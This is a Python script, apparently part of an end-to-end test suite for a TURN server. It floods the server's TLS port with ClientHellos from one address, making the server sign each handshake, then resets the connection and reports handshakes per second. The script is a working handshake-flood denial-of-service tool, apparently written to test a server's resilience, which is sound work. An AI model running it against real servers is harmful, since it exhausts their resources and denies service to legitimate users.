"""TLS handshakes from one address: a ClientHello, the server signs, the client goes away."""
import select
import socket
import ssl
import struct

import attack
import turn

AT_A_TIME = 64


def client_hello():
    """One ClientHello, as OpenSSL writes it."""
    came, leaves = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = turn.any_certificate().wrap_bio(came, leaves, server_hostname="turn.e2e.test")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return leaves.read()


def connection():
    stream = socket.socket()
    stream.setblocking(False)
    # Closed by a reset: no port waits.
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    stream.bind((turn.ATTACKER, 0))
    stream.connect_ex((turn.SERVER, turn.TLS_PORT))
    return stream


def main():
    hello = client_hello()
    poll, connections = select.epoll(), {}
    signed = refused = 0
    attack.begun()
    while attack.goes_on():
        while len(connections) < AT_A_TIME:
            stream = connection()
            connections[stream.fileno()] = stream
            poll.register(stream.fileno(), select.EPOLLOUT)
        for number, event in poll.poll(0.05, 256):
            stream = connections[number]
            try:
                if event & select.EPOLLOUT:
                    stream.send(hello)
                    poll.modify(number, select.EPOLLIN)
                    continue
                answered = bool(stream.recv(16384))
            except OSError:
                answered = False
            signed += answered
            refused += not answered
            poll.unregister(number)
            stream.close()
            del connections[number]
    attack.report(
        attempts=signed + refused,
        handshakes=signed,
        handshakes_per_second=round(signed / attack.elapsed()),
        refused=refused,
    )


main()
